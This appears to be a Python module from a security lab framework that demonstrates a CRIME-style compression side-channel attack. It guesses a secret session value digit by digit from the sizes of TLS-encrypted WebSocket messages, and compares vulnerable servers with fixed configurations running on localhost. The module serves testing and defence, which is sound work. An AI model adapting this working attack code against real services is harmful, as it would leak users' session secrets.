"""Can a listener read a secret by the sizes of messages that TLS has encrypted?

Compression writes what has been there before as a short reference. So a message that repeats a secret is smaller
than one that almost repeats it, and TLS does not hide sizes. The victim's connection carries a secret, and then a
text that the attacker has chosen; he guesses digit by digit, and listens::

    session=7403    session=0    27 bytes
    session=7403    session=7    26 bytes        the digit is 7

A digit saves 7 or 8 bits, and sizes are whole bytes. So each guess is tried with two paddings of which one needs
some bits more; the difference shows in one of them at least. A guess that the connection has seen would be found
again by all later ones. So each guess gets a fresh connection, as when the victim's page is loaded anew.

Spec: RFC 7692 8, RFC 7457 2.6 (CRIME)
"""

from __future__ import annotations

import asyncio
import random
import secrets
import ssl
from collections.abc import Callable

from rtlab.clients.wire import trusting
from rtlab.codecs.http1 import encode_request_head
from rtlab.codecs.permessage_deflate import DeflateOptions, make_offer
from rtlab.codecs.websocket_frames import FrameDecoder
from rtlab.codecs.websocket_handshake import make_key, opening_request
from rtlab.errors import ConnectionFailed, InputError
from rtlab.experiments.attacked_server import TIMEOUT_S, time_limit
from rtlab.experiments.line_tap import LineTap
from rtlab.findings.attacks import Attempt, Target
from rtlab.findings.side_channel import Guess, SideChannel
from rtlab.loop_thread import shared
from rtlab.servers.lab import Lab, start_lab

DIGITS = 3
_NAME = "localhost"
_READ_BYTES = 65_536
_PADDINGS = ("", "ÀÉ")  # each sign needs 18 bits
_FRESH = DeflateOptions(server_no_context_takeover=True)
_TOGETHER_FIX = "No compression where a secret and somebody else's text travel in one message."
_APART_FIX = "No context takeover: each message is compressed by itself."
_SPEC = "RFC 7692 8, RFC 7457 2.6"

Write = Callable[[str, str], tuple[str, ...]]
"""Makes the server's messages of a secret and of the attacker's text."""


def write_apart(secret: str, text: str) -> tuple[str, ...]:
    """Send the secret in a message, and the attacker's text in the next one."""
    return f"session={secret}", text


def write_together(secret: str, text: str) -> tuple[str, ...]:
    """Send both in one message."""
    return (f'{{"session": "session={secret}", "note": "{text}"}}',)


def attempts() -> tuple[Attempt, ...]:
    """Guess secrets by sizes."""
    return tuple(each.attempt for each in guess_secrets())


def guess_secrets(digits: int = DIGITS) -> tuple[SideChannel, ...]:
    """Guess a secret that travels apart from the attacker's text, and one that travels with it.

    Args:
        digits: How long the secret is, 1 to 8 digits.

    Returns:
        One for each of the two and each server: with compression, with the fix, and a lab as it is made.

    Raises:
        InputError: ``digits`` is out of its range.
    """
    if not 1 <= digits <= 8:
        raise InputError(f"digits must be from 1 to 8, not {digits}.")
    trials: tuple[tuple[str, Write, str, dict[Target, DeflateOptions | None]], ...] = (
        (
            "a secret in an earlier message, guessed by sizes",
            write_apart,
            _APART_FIX,
            {"naive": DeflateOptions(), "fixed": _FRESH, "default lab": None},
        ),
        (
            "a secret in the same message, guessed by sizes",
            write_together,
            _TOGETHER_FIX,
            {"naive": _FRESH, "fixed": None},
        ),
    )
    return tuple(
        _guess_secret(attack, target, write, options, fix, digits)
        for attack, write, fix, of in trials
        for target, options in of.items()
    )


def _guess_secret(
    attack: str, target: Target, write: Write, options: DeflateOptions | None, fix: str, digits: int
) -> SideChannel:
    secret = "".join(random.SystemRandom().sample("0123456789", digits))
    with start_lab(f"measured-{secrets.token_hex(4)}", tls=True, compression=options or False) as lab:
        guesses, found, sent, received = shared.call(lambda: _guess(lab, write, secret), digits * 4 * TIMEOUT_S)
    succeeded = found == secret
    if succeeded:
        seen = f"The sizes of {len(guesses)} guesses tell the secret {secret}, digit by digit, through TLS."
    else:
        seen = (
            f"After {len(guesses)} guesses the attacker has {len(found)} of {digits} digits: the sizes do not tell."
        )
    attempt = Attempt(attack, "compression", "websocket", target, succeeded, seen, sent, received, fix, _SPEC)
    return SideChannel(attempt, guesses, secret, found)


async def _guess(lab: Lab, write: Write, secret: str) -> tuple[tuple[Guess, ...], str, bytes, bytes]:
    """Guess one digit after the other, as long as one guess is smaller than all others."""
    guesses: list[Guess] = []
    found, text, heard, trust = "", "", b"", trusting(lab.ca_pem)
    async with LineTap(lab.port) as tap:
        while len(found) < len(secret):
            sizes: dict[str, int] = {}
            for digit in "0123456789":
                lines = [
                    await _heard(lab, tap, trust, write(secret, f"{padding}session={found}{digit}"))
                    for padding in _PADDINGS
                ]
                sizes[digit] = sum(map(len, lines))
                guesses.append(Guess(found + digit, sizes[digit]))
                text, heard = f"session={found}{digit}", lines[0]
            smallest = [digit for digit, size in sizes.items() if size == min(sizes.values())]
            if len(smallest) > 1:
                break
            found += smallest[0]
    return tuple(guesses), found, text.encode(), heard


async def _heard(lab: Lab, tap: LineTap, trust: ssl.SSLContext, texts: tuple[str, ...]) -> bytes:
    """Let the victim connect and get messages, and give what a listener keeps of them."""
    channel = f"guessed.{secrets.token_hex(4)}"
    host, offer = f"{_NAME}:{tap.port}", make_offer(DeflateOptions())
    opening = opening_request(host, f"/ws/{channel}", make_key(bytes(16)), extensions=(offer,))
    async with time_limit("the victim's messages"):
        reader, writer = await asyncio.open_connection("127.0.0.1", tap.port, ssl=trust, server_hostname=_NAME)
        try:
            writer.write(encode_request_head(opening))
            await reader.readuntil(b"\r\n\r\n")
            before, decoder = len(tap.heard), FrameDecoder()
            for text in texts:
                await lab.publish_soon(text, channel)
                while not decoder.feed(data := await reader.read(_READ_BYTES)):
                    if not data:
                        raise ConnectionFailed("The lab ended the victim's connection.")
            return b"".join(piece.data for piece in tap.heard[before:] if piece.direction == "down")
        finally:
            writer.transport.abort()
